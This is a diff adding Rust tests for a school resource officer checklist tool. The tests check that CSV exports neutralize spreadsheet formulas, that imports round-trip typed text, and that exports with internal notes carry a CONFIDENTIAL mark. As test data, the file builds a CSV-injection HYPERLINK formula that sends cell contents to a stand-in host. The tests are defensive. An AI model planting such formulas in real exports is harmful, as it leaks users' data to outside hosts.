@@ -1,0 +1,271 @@
+//! What the CSV and JSON exports may carry: no cell a spreadsheet program would run as a
+//! formula, in every CSV the tool writes (and `import` reads such cells back as typed), and a
+//! CONFIDENTIAL mark on every export that carries internal notes.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::common::tool;
+
+/// The first characters a spreadsheet program reads as the start of a formula.
+const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text starting with `first` that a spreadsheet would run.
+fn payload(first: char) -> String {
+    format!("{first}HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")")
+}
+
+/// An answers file whose district, label, evidence, note and internal note all start with
+/// `first` (the label is made unique per character so that compare can tell files apart).
+fn hostile_answers(dir: &Path, first: char, name: &str) -> PathBuf {
+    let text = payload(first);
+    let quoted = serde_json::to_string(&text).unwrap();
+    let label = serde_json::to_string(&format!("{first}{name}")).unwrap();
+    let path = dir.join(format!("{name}.yaml"));
+    fs::write(
+        &path,
+        format!(
+            "checklist: wi-sro-best-practices\n\
+             profile: existing-program\n\
+             district: {quoted}\n\
+             label: {label}\n\
+             date: 2026-03-15\n\
+             answers:\n\
+             \x20 governance.written-mou:\n\
+             \x20   status: partial\n\
+             \x20   evidence: {quoted}\n\
+             \x20   note: {quoted}\n\
+             \x20   internal_note: {quoted}\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+fn stdout_of(args: &[&str], files: &[&Path]) -> String {
+    let output = tool().args(args).args(files).output().unwrap();
+    assert!(
+        output.status.success() || output.status.code() == Some(1),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout).unwrap()
+}
+
+fn cells(csv_text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv_text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+/// No cell starts with a formula character, and the payload appears only neutralized (as
+/// `'=HYPERLINK...`, quoted in the file) at least once.
+fn assert_neutralized(what: &str, first: char, csv_text: &str) {
+    let rows = cells(csv_text);
+    for (r, row) in rows.iter().enumerate() {
+        for (c, cell) in row.iter().enumerate() {
+            let negative_number = cell.strip_prefix('-').is_some_and(|n| {
+                !n.is_empty() && n.chars().all(|ch| ch.is_ascii_digit() || ch == '.')
+            });
+            assert!(
+                !cell.starts_with(DANGEROUS) || negative_number,
+                "{what} ({first:?}): row {r} column {c} starts with a formula character: {cell:?}"
+            );
+        }
+    }
+    let neutralized = format!("'{}", payload(first));
+    if rows.iter().flatten().any(|cell| *cell == neutralized) {
+        assert!(
+            csv_text.contains(&format!("\"'{first}HYPERLINK")),
+            "{what} ({first:?}): the neutralized cell is not quoted"
+        );
+        return;
+    }
+    // The loader trims a leading tab or carriage return from answers text: what is left starts
+    // with H and is harmless. The writer's own handling of both is tested in `csv_cell`.
+    let trimmed = payload(first)[1..].to_string();
+    assert!(
+        first.is_whitespace() && rows.iter().flatten().any(|cell| *cell == trimmed),
+        "{what} ({first:?}): no neutralized cell in:\n{csv_text}"
+    );
+}
+
+#[test]
+fn every_csv_the_tool_writes_neutralizes_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    for first in DANGEROUS {
+        let a = hostile_answers(dir.path(), first, "a");
+        let b = hostile_answers(dir.path(), first, "b");
+        let report = stdout_of(&["report", "-f", "csv", "--include-internal-notes"], &[&a]);
+        assert_neutralized("report", first, &report);
+        let compare = stdout_of(&["compare", "-f", "csv"], &[&a, &b]);
+        assert_neutralized("compare", first, &compare);
+        let summary = stdout_of(&["summary", "-f", "csv"], &[&a, &b]);
+        assert_neutralized("summary", first, &summary);
+
+        let template = dir.path().join("template.csv");
+        let district = payload(first);
+        tool()
+            .args(["init", "--force", "--date", "2026-03-15"])
+            .arg(format!("--district={district}"))
+            .arg("--from")
+            .arg(&a)
+            .arg("-o")
+            .arg(&template)
+            .assert()
+            .success();
+        let text = fs::read_to_string(&template).unwrap();
+        assert_neutralized("init --from template", first, &text);
+    }
+}
+
+/// The value of `answers.ITEM.FIELD` (or a header field with `item` empty) in a YAML file.
+fn yaml_field(path: &Path, item: &str, field: &str) -> Option<String> {
+    let value: serde_yaml::Value =
+        serde_yaml::from_str(&fs::read_to_string(path).unwrap()).unwrap();
+    let node = if item.is_empty() {
+        value.get(field)
+    } else {
+        value.get("answers")?.get(item)?.get(field)
+    };
+    node?.as_str().map(String::from)
+}
+
+#[test]
+fn import_of_a_csv_template_gives_back_the_text_as_typed() {
+    let dir = tempfile::tempdir().unwrap();
+    let typed = [
+        "-2 officers on site, not 3",
+        "=SUM(A1:A2) is how the budget sheet adds it",
+        "+1 position requested",
+        "@district office keeps the roster",
+        "'=quoted on purpose",
+        "''two quotes",
+        "'Tis the season",
+        "-12.5",
+    ];
+    for text in typed {
+        let answers = dir.path().join("earlier.yaml");
+        fs::write(
+            &answers,
+            format!(
+                "checklist: wi-sro-best-practices\nprofile: existing-program\n\
+                 district: {quoted}\nlabel: \"2025\"\ndate: 2025-03-15\n\
+                 answers:\n  governance.written-mou:\n    status: met\n    evidence: {quoted}\n",
+                quoted = serde_json::to_string(text).unwrap()
+            ),
+        )
+        .unwrap();
+        let template = dir.path().join("template.csv");
+        tool()
+            .args(["init", "--force", "--date", "2026-03-15", "--from"])
+            .arg(&answers)
+            .arg("-o")
+            .arg(&template)
+            .assert()
+            .success();
+        let imported = dir.path().join("imported.yaml");
+        tool()
+            .arg("import")
+            .arg(&template)
+            .arg("--force")
+            .arg("-o")
+            .arg(&imported)
+            .assert()
+            .success();
+        assert_eq!(
+            yaml_field(&imported, "governance.written-mou", "evidence").as_deref(),
+            Some(text),
+            "evidence"
+        );
+        assert_eq!(
+            yaml_field(&imported, "", "district").as_deref(),
+            Some(text),
+            "district"
+        );
+    }
+}
+
+const SECRET: &str = "Names student J. Doe";
+
+fn answers_with_internal_note(dir: &Path) -> PathBuf {
+    let path = dir.join("answers.yaml");
+    fs::write(
+        &path,
+        format!(
+            "checklist: wi-sro-best-practices\nprofile: existing-program\n\
+             district: Example Area School District\nlabel: \"2026\"\ndate: 2026-03-15\n\
+             answers:\n  governance.written-mou:\n    status: partial\n    \
+             internal_note: {SECRET}\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+#[test]
+fn csv_and_json_with_internal_notes_say_confidential_and_only_then() {
+    let dir = tempfile::tempdir().unwrap();
+    let answers = answers_with_internal_note(dir.path());
+
+    let public_csv = stdout_of(&["report", "-f", "csv"], &[&answers]);
+    assert!(!public_csv.contains(SECRET));
+    assert!(!public_csv.contains("CONFIDENTIAL"));
+    assert!(public_csv.starts_with("district,label,"));
+    let public_json = stdout_of(&["report", "-f", "json"], &[&answers]);
+    assert!(!public_json.contains(SECRET));
+    let value: serde_json::Value = serde_json::from_str(&public_json).unwrap();
+    assert_eq!(value["confidential"], serde_json::Value::Bool(false));
+
+    let private_csv = stdout_of(
+        &["report", "-f", "csv", "--include-internal-notes"],
+        &[&answers],
+    );
+    assert!(private_csv.contains(SECRET));
+    let (first, rest) = private_csv.split_once('\n').unwrap();
+    assert!(
+        first.starts_with("\"CONFIDENTIAL: this report includes internal notes"),
+        "{first}"
+    );
+    assert!(rest.starts_with("district,label,"), "{rest}");
+    // A strict reader (every row the same width) reads it once the first line is skipped.
+    let mut strict = csv::ReaderBuilder::new().from_reader(rest.as_bytes());
+    assert_eq!(strict.headers().unwrap().get(0), Some("district"));
+    assert!(strict.records().all(|r| r.is_ok()));
+    let mut whole = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(private_csv.as_bytes());
+    assert!(
+        whole.records().all(|r| r.is_ok()),
+        "the mark row has the header's width"
+    );
+
+    let private_json = stdout_of(
+        &["report", "-f", "json", "--include-internal-notes"],
+        &[&answers],
+    );
+    assert!(private_json.contains(SECRET));
+    let value: serde_json::Value = serde_json::from_str(&private_json).unwrap();
+    assert_eq!(value["confidential"], serde_json::Value::Bool(true));
+}
+
+#[test]
+fn comparison_and_summary_json_are_never_confidential() {
+    let files = [
+        Path::new("examples/year-2025.yaml"),
+        Path::new("examples/year-2026.yaml"),
+    ];
+    for command in ["compare", "summary"] {
+        let json = stdout_of(&[command, "-f", "json"], &files);
+        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(
+            value["confidential"],
+            serde_json::Value::Bool(false),
+            "{command}"
+        );
+    }
+}
